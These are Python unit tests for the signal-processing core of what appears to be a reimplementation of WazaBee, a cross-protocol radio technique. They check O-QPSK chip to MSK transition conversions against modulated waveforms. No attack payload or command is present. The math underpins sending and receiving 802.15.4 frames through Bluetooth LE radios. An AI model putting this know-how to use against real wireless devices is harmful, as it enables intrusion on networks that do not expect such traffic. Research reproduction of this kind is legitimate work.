        assert fft.dc_offset == pytest.approx(direct.dc_offset, abs=1e-6)

    def test_lazy_power_evaluated_once(self):
        calls = []
        sig = IQSignal(np.exp(1j * np.linspace(0, 20, 400)), 16e6)
        supplier = lazy_capture_power(sig)
        first = supplier()
        second = supplier()
        assert first is second
        assert first.size == len(sig) - 1

    def test_find_sync_accepts_callable_power(self, rng):
        mod, dem = make_modem()
        payload = rng.integers(0, 2, 64).astype(np.uint8)
        sig = mod.modulate(np.concatenate([SYNC, payload]))
        disc = dem.discriminate(sig)
        eager = dem.find_sync(disc, SYNC, power=np.abs(sig.samples[:-1]) ** 2)
        lazy = dem.find_sync(disc, SYNC, power=lazy_capture_power(sig))
        assert eager is not None and lazy is not None
        assert (eager.start, eager.score) == (lazy.start, lazy.score)
