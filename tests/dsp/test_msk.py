"""Tests for the chip ↔ MSK-transition conversions.

These pin the physics that makes WazaBee possible, cross-validating the
closed-form relation against actual modulated waveforms.
"""

import numpy as np
import pytest
from hypothesis import given, settings, strategies as st

from repro.dsp.gfsk import FskDemodulator, GfskConfig
from repro.dsp.msk import chips_to_transitions, transitions_to_chips
from repro.dsp.oqpsk import OqpskModulator

chips_strategy = st.lists(st.integers(0, 1), min_size=2, max_size=128).map(
    lambda xs: np.array(xs, dtype=np.uint8)
)


class TestClosedForm:
    def test_formula_matches_definition(self):
        """t_i = c_i ^ c_{i-1} ^ (i odd)."""
        chips = np.array([1, 1, 0, 0, 1], dtype=np.uint8)
        # i=1 (odd): 1^1^1=1; i=2: 0^1^0=1; i=3 (odd): 0^0^1=1; i=4: 1^0^0=1
        assert chips_to_transitions(chips).tolist() == [1, 1, 1, 1]

    def test_with_previous_chip(self):
        chips = np.array([1, 0], dtype=np.uint8)
        # transition into chip 0 (even): 1^0^0 = 1 with prev=0
        out = chips_to_transitions(chips, previous_chip=0)
        assert out.size == 2
        assert out[0] == 1

    def test_start_index_parity(self):
        chips = np.array([1, 1], dtype=np.uint8)
        even = chips_to_transitions(chips, start_index=0)
        odd = chips_to_transitions(chips, start_index=1)
        assert even[0] != odd[0]

    def test_empty_and_single(self):
        assert chips_to_transitions(np.array([], dtype=np.uint8)).size == 0
        assert chips_to_transitions(np.array([1], dtype=np.uint8)).size == 0

    @given(chips_strategy)
    def test_roundtrip(self, chips):
        transitions = chips_to_transitions(chips, previous_chip=1)
        recovered = transitions_to_chips(transitions, 0, previous_chip=1)
        assert np.array_equal(recovered, chips)

    @given(chips_strategy, st.integers(0, 7))
    def test_roundtrip_any_start_index(self, chips, start):
        transitions = chips_to_transitions(
            chips, start_index=start, previous_chip=0
        )
        recovered = transitions_to_chips(transitions, start, previous_chip=0)
        assert np.array_equal(recovered, chips)


class TestAgainstWaveform:
    """The formula must agree with the FM-discriminated O-QPSK waveform."""

    @pytest.mark.parametrize("seed", [0, 1, 2])
    def test_oqpsk_rotations_match_formula(self, seed):
        rng = np.random.default_rng(seed)
        chips = rng.integers(0, 2, 160).astype(np.uint8)
        modulator = OqpskModulator(samples_per_chip=8)
        sig = modulator.modulate(chips)
        dem = FskDemodulator(GfskConfig(8, 0.5, None), 2e6)
        disc = dem.discriminate(sig)
        expected = chips_to_transitions(chips)
        sync = dem.find_sync(disc, expected[:48], threshold=0.5)
        assert sync is not None
        bits = dem.decide_bits(disc, sync.start, expected.size)
        assert np.array_equal(bits, expected)

    def test_counterclockwise_is_one(self):
        """An explicit check of the rotation sense convention: chips (1, 1)
        starting at an odd index rotate the phase counter-clockwise."""
        modulator = OqpskModulator(samples_per_chip=32)
        # Sequence 1,1,1,1: transitions at odd i are 1 (CCW).
        sig = modulator.modulate([1, 1, 1, 1])
        phase = sig.instantaneous_phase()
        # Rotation during chip period 1 (odd index).
        step = phase[2 * 32] - phase[1 * 32]
        assert step == pytest.approx(np.pi / 2, abs=1e-2)
        expected = chips_to_transitions(np.array([1, 1, 1, 1], dtype=np.uint8))
        assert expected[0] == 1


def _transitions_to_chips_scalar(transitions, start_index, previous_chip):
    """The pre-vectorisation per-chip loop, kept as the reference."""
    arr = np.asarray(transitions, dtype=np.uint8)
    chips = np.empty(arr.size, dtype=np.uint8)
    prev = np.uint8(previous_chip & 1)
    for k in range(arr.size):
        parity = np.uint8((start_index + k) % 2)
        prev = arr[k] ^ prev ^ parity
        chips[k] = prev
    return chips


class TestVectorisedInverse:
    """The prefix-XOR closed form must equal the scalar recurrence."""

    @settings(max_examples=50, deadline=None)
    @given(
        transitions=st.lists(st.integers(0, 1), min_size=0, max_size=256),
        start=st.integers(0, 9),
        previous=st.integers(0, 1),
    )
    def test_matches_scalar_reference(self, transitions, start, previous):
        arr = np.array(transitions, dtype=np.uint8)
        fast = transitions_to_chips(arr, start_index=start, previous_chip=previous)
        ref = _transitions_to_chips_scalar(arr, start, previous)
        assert fast.dtype == np.uint8
        assert np.array_equal(fast, ref)

    def test_empty_input(self):
        out = transitions_to_chips(np.zeros(0, dtype=np.uint8), 0, 1)
        assert out.size == 0 and out.dtype == np.uint8
